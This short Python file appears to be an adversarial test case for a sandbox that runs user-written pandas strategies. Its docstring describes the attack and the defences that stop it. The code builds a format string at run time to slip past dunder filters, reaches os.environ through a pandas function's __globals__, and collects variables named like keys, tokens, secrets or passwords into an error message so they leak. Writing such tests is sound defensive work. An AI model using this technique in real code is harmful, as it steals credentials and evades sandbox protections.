"""A format string built at run time walks ``__globals__`` into ``os.environ``.

Attack (issue, pandas-only style): ``"{0.__glob" + "als__[os].environ}"`` is assembled at run
time (no dunder in any literal) and formatted with a pandas function whose module imported
``os``; the environment, secret-looking variables first, goes into the error text that the
user sees and the records keep.
Stopped by: the clean worker's scrubbed environment (the strategy process never had the
secrets); the message is also capped at 300 characters.
"""

import pandas as pd

PARAMETERS = {}


def generate_positions(data, **params):
    spec = "{0.__glob" + "als__[os].environ}"
    env = spec.format(pd.io.common.get_handle)
    environ = pd.io.common.get_handle.__globals__["os"].environ
    secrets = [
        f"{k}={v}"
        for k, v in environ.items()
        if any(w in k.upper() for w in ("KEY", "TOKEN", "SECRET", "PASS", "AUTH")) or "canary" in v
    ]
    raise RuntimeError("leaked: " + " ".join(secrets) + " | environ: " + env)
